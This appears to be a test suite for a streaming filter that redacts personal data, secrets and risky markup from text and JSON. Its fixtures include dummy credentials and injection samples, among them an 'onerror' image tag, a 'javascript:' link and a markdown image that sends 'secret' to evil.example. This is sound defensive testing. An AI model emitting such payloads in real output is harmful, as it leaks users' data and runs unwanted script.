"""Content filters: detectors find what they should, and a text's division into chunks never shows in the output."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator, Sequence
from typing import get_args

import pytest
import re2
from hypothesis import given, settings
from hypothesis import strategies as st

from argosy.policy.content import (
    DETECTORS,
    MARKUP_DETECTORS,
    Action,
    BoundedPattern,
    JsonFilter,
    Matcher,
    PatternError,
    Rule,
    TextFilter,
    create_custom_detector,
    create_word_detector,
)

FOUND = {
    "email": ["jane.doe+x@mail.example.co.uk", "o'neil@example.org",
              "\uff4a\uff4f@example.com", "j\u200bo@example.com"],
    "card": [
        "4111 1111 1111 1111",
        "4111-1111-1111-1111",
        "5555555555554444",
        "3782 822463 10005",
        "\uff14\uff11\uff11\uff11 1111 1111 1111",
        "4111\u00a01111\u00a01111\u00a01111",
        "٤١١١١١١١١١١١١١١١",
    ],
    "iban": ["DE89 3704 0044 0532 0130 00", "GB33BUKB20201555555555", "NO9386011117947",
             "MT84MALT011000012345MTLCAST001S"],
    "ip": ["192.168.10.4", "2001:0db8:0000:0000:0000:ff00:0042:8329"],
    "phone": ["+49 170 1234567", "+1 (415) 555-0132", "(415) 555-0132", "415-555-0132"],
    "us_ssn": ["078-05-1120"],
    "de_tax_id": ["86095742719", "47 036 892 816"],
    "fr_nir": ["255081416802538", "2 55 08 14 168 025 38"],
    "es_dni": ["12345678Z", "X1234567L"],
    "it_codice_fiscale": ["RSSMRA85T10A562S"],
    "nl_bsn": ["111222333"],
    "pl_pesel": ["44051401359"],
    "br_cpf": ["529.982.247-25"],
    "in_aadhaar": ["2341 2341 2346"],
    "cn_id": ["11010519491231002X"],
    "uk_nino": ["AB123456C", "AB 12 34 56 C"],
    "secret": [
        "AKIAIOSFODNN7EXAMPLE",
        "ghp_" + "a1B2" * 9,
        "sk-proj-" + "aB3_" * 30,
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEow+/==\n-----END RSA PRIVATE KEY-----",
        "postgres://app:hunter2@db.internal:5432",
    ],
}  # fmt: skip
"""Texts that each detector finds as a whole."""
NOT_FOUND = (
    "gpt-5.4 and S3, C4 or EKS; version 3.8.2.4.1, 0.214285714285714, 10 000 000, 2024-1001-2002",
    "4111 1111 1111 1112 and 1234567890123456, epoch 1764406800000000, 00:a2:e3:44:55:66:77:88:99",
    "INTRODUCTORY a@b user@localhost 999.1.1.1 000-12-3456 DE00 3704 0044 0532 0130 00 x4111111111111111",
    "sk-short eyJ0 AKIA123 http://host:80/path?q=a:b@c +1 23 mod 97 (200) 100",
)
ALL = Matcher([Rule(each, "redact") for group in DETECTORS.values() for each in group])
PIECES = [*(each for group in FOUND.values() for each in group), *NOT_FOUND]


def filter_chunks(content_filter: TextFilter | JsonFilter, chunks: Sequence[str]) -> str:
    return "".join(map(content_filter.feed, chunks)) + content_filter.flush()


def divide(text: str, seed: int) -> Iterator[str]:
    generator, start = random.Random(seed), 0
    while start < len(text):
        end = start + generator.choice((1, 1, 2, 3, 7, 40))
        yield text[start:end]
        start = end


@pytest.mark.parametrize("name", FOUND)
def test_detector_finds_its_formats(name: str) -> None:
    for text in FOUND[name]:
        text_filter = TextFilter(Matcher([Rule(each, "redact") for each in DETECTORS[name]]))
        output = filter_chunks(text_filter, [f"It is {text}, or so."])
        assert output == f"It is [{name}], or so."
        assert set(text_filter.counts) == {(name, "redact")}


@pytest.mark.parametrize("text", NOT_FOUND)
def test_leaves_what_only_looks_like_data(text: str) -> None:
    assert filter_chunks(TextFilter(ALL), [text]) == text


def test_actions() -> None:
    (card, *_), (email,) = DETECTORS["card"], DETECTORS["email"]
    words = create_word_detector("competitor", ["Acme Corp", "c++"])
    ticket = create_custom_detector("ticket", r"T-\d{4,8}")
    text = (
        "Card 4111 1111 1111 1111, mail jo@example.com, ACME corp, C++, T-12345, T-123456789. End"
    )
    for rules, expected, stopped_by in (
        ([Rule(card, "mask"), Rule(email, "mask")], text.replace("4111 1111 1111 1111", "**** **** **** 1111")
         .replace("jo@example.com", "redacted@example.invalid"), None),
        ([Rule(words, "redact"), Rule(ticket, "redact")], text.replace("ACME corp", "[competitor]")
         .replace("C++", "[competitor]").replace("T-12345,", "[ticket],"), None),
        ([Rule(email, "stop")], "Card 4111 1111 1111 1111, mail ", "email"),
        ([Rule(email, "report")], text, None),
    ):  # fmt: skip
        for seed in range(20):
            text_filter = TextFilter(Matcher(rules))
            assert filter_chunks(text_filter, list(divide(text, seed))) == expected
            assert text_filter.stopped_by == stopped_by
            assert sum(text_filter.counts.values()) >= 1


def test_markup_that_loads_or_runs_something() -> None:
    rules = [Rule(each, "redact") for group in MARKUP_DETECTORS.values() for each in group]
    text = (
        'A <b>bold</b> <img src="x" onerror="f()"> List<String> a < b <SCRIPT>x</script > <imgs> '
        "![chart](https://evil.example/?q=secret) [here](javascript:f()) "
        "[ok](https://example.com) ![a] <svg/onload=f\nend"
    )
    expected = (
        "A <b>bold</b> [html] List<String> a < b [html]x[html] <imgs> "
        "[markdown_image] [here]([script_link]f()) [ok](https://example.com) ![a] [html]\nend"
    )
    for seed in range(50):
        assert filter_chunks(TextFilter(Matcher(rules)), list(divide(text, seed))) == expected


texts = st.lists(
    st.one_of(
        st.sampled_from(PIECES),
        st.sampled_from(PIECES).flatmap(lambda each: st.integers(0, len(each)).map(lambda end: each[:end])),
        st.sampled_from(["<img ", ">", "![", "](", " ", ", "]),
        st.sampled_from(["\n", '"', "{", "\\", "@", ".", "-", "+", "1", "a", "é", "\u200b", "\ud800", "😀"]),
        st.text(max_size=5),
    ),
    max_size=8,
).map("".join)  # fmt: skip
actions = st.sampled_from(get_args(Action))
all_actions = {
    action: Matcher(
        [Rule(each, action) for group in (DETECTORS | MARKUP_DETECTORS).values() for each in group]
    )
    for action in get_args(Action)
}


def check_division(text: str, action: Action, seed: int) -> None:
    for create in (TextFilter, JsonFilter):
        whole, divided = create(all_actions[action]), create(all_actions[action])
        expected = filter_chunks(whole, [text])
        assert filter_chunks(divided, list(divide(text, seed))) == expected
        assert (divided.counts, divided.stopped_by) == (whole.counts, whole.stopped_by)


@given(texts, actions, st.integers(0, 1000))
@settings(max_examples=200)
def test_division_into_chunks_does_not_matter(text: str, action: Action, seed: int) -> None:
    check_division(text, action, seed)


def generate_document(generator: random.Random) -> str:
    """Return a text of matches, beginnings of them, and what may stand between them."""
    between = ["<img ", ">", "![", "](", " ", ", ", "\n", '"', "{", "\\", "@", ".", "-", "+", "1", "a", "\u00e9",
               "\u200b", "\ud800", "\U0001f600"]  # fmt: skip
    parts = []
    for _ in range(generator.randrange(1, 9)):
        piece, kind = generator.choice(PIECES), generator.randrange(3)
        cut = piece[: generator.randrange(len(piece) + 1)]
        parts.append((piece, cut, generator.choice(between))[kind])
    return "".join(parts)


@pytest.mark.exhaustive
@pytest.mark.timeout(3600)
@given(st.integers(0, 2**32))
@settings(max_examples=1000)
def test_division_of_100_000_documents_never_matters(seed: int) -> None:
    generator = random.Random(seed)
    for _ in range(100):
        check_division(generate_document(generator), generator.choice(get_args(Action)), seed)


documents = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.just(4111111111111111), st.sampled_from(PIECES), texts),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.sampled_from(PIECES), inner, max_size=3)),
    max_leaves=6,
)  # fmt: skip


@given(documents, st.booleans(), st.integers(0, 1000))
@settings(max_examples=100)
def test_json_stays_valid_and_each_value_is_filtered(
    document: object, is_ascii: bool, seed: int
) -> None:
    text = json.dumps(document, ensure_ascii=is_ascii)
    filtered = json.loads(filter_chunks(JsonFilter(ALL), list(divide(text, seed))))

    def compare(value: object, output: object) -> None:
        if isinstance(value, str):
            assert output == filter_chunks(TextFilter(ALL), [value])
        elif isinstance(value, list):
            assert isinstance(output, list)
            for each, other in zip(value, output, strict=True):
                compare(each, other)
        elif isinstance(value, dict):
            assert isinstance(output, dict)
            for name, each in value.items():
                if list(map(filter_name, value)).count(filter_name(name)) == 1:
                    compare(each, output[filter_name(name)])
        elif not isinstance(value, bool) and isinstance(value, int):
            assert output in ((None,) if value == 4111111111111111 else (value, None))
        else:
            assert output == value

    def filter_name(name: str) -> str:
        return filter_chunks(TextFilter(ALL), [name])

    compare(document, filtered)


@pytest.mark.parametrize("action", ["redact", "stop"])
def test_no_part_of_a_match_leaves_early(action: Action) -> None:
    matcher = all_actions[action]
    for text in (
        "4111 1111 1111 1111",
        "jane.doe@example.com",
        "AKIAIOSFODNN7EXAMPLE",
        "078-05-1120",
    ):
        text_filter = TextFilter(matcher)
        output = [text_filter.feed(each) for each in f"Hi: {text} bye"]
        assert "".join(output[: 4 + len(text)]) == "Hi: "


def test_beginnings_of_patterns() -> None:
    for pattern, examples in (
        (r"a{2,3}(?:bc|d[e-g]){1,2}x?", ["aabc", "aaabcdgx", "aadedf"]),
        (r"(?i)foo\d{3}|b[^a-c]r", ["FOO123", "bzr"]),
        (r"[^\s@]{1,5}@\w(?:\.[a-z]{1,3}?){0,2}", ["a!b@c.xy.z", "z@z"]),
        (r"x(?P<n>y.|\(\[){2}", ["xyz([", "x([y\u00e9"]),
    ):
        bounded = BoundedPattern(pattern)
        for text in examples:
            assert re2.fullmatch(bounded.source, text), (pattern, text)
            assert len(text) <= bounded.max_chars
            for end in range(len(text) + 1):
                assert re2.fullmatch(bounded.prefixes, text[:end]), (pattern, text[:end])
        assert not re2.fullmatch(bounded.prefixes, "\n")


@pytest.mark.parametrize(
    ("pattern", "message"),
    [
        ("a*", "bounds such as"),
        ("(a+)+b", "bounds such as"),
        ("(?:)", "1 to 256"),
        ("a{1,300}", "1 to 256"),
        ("(", "malformed"),
        (r"\bfoo", "whole words already"),
        ("(?=a)b", "assertions"),
        (r"(a)\1", "references"),
        ("a(?i:b)", "at the beginning"),
        ("(?m)a", "flags"),
        (r"[\D1]", "negated class"),
        ("x" * 1001, "Shorten"),
    ],
)
def test_refuses_patterns_by_what_to_change(pattern: str, message: str) -> None:
    with pytest.raises(PatternError, match=message):
        create_custom_detector("own", pattern)


def test_refuses_deny_words() -> None:
    for words in ([], [" "], ["x"] * 1001, ["x" * 300]):
        with pytest.raises(PatternError):
            create_word_detector("own", words)
    words = [f"word{number:04} of many" for number in range(1000)]
    matcher = Matcher([Rule(create_word_detector("own", words), "redact")])
    assert (
        filter_chunks(TextFilter(matcher), ["a Word0999 of Many, word1000 of many"])
        == "a [own], word1000 of many"
    )


ALMOST = ["4", "a@", "4111 ", "eyJ", "sk-", "a.b@c.", "-----BEGIN ", "\u200b", "(2", "é1"]
"""Beginnings of matches, which are repeated without an end."""


def check_bounds(unit: str, kilobytes: int) -> None:
    text_filter = TextFilter(ALL)
    for _ in range(kilobytes):
        text_filter.feed(unit * (1000 // len(unit)))
        assert text_filter.held_chars <= ALL.max_held_chars


@pytest.mark.parametrize("unit", ALMOST)
def test_almost_matches_need_bounded_memory(unit: str) -> None:
    check_bounds(unit, 100)


@pytest.mark.exhaustive
@pytest.mark.parametrize("unit", ALMOST)
def test_10_megabytes_of_almost_matches_end(unit: str) -> None:
    check_bounds(unit, 10_000)


@pytest.mark.parametrize(
    "pattern", [r"(?:a|aa|a?b){60}c", r"(?:a?){80}b", r"a{1,100}a{1,100}b", r"(?:[ab]{1,9}a){20}c"]
)
def test_patterns_that_explode_elsewhere_end(pattern: str) -> None:
    matcher = Matcher([Rule(create_custom_detector("own", pattern), "redact")])
    text_filter = TextFilter(matcher)
    text = "a" * 20_000
    assert filter_chunks(text_filter, [text]) == text
    assert text_filter.held_chars <= matcher.max_held_chars
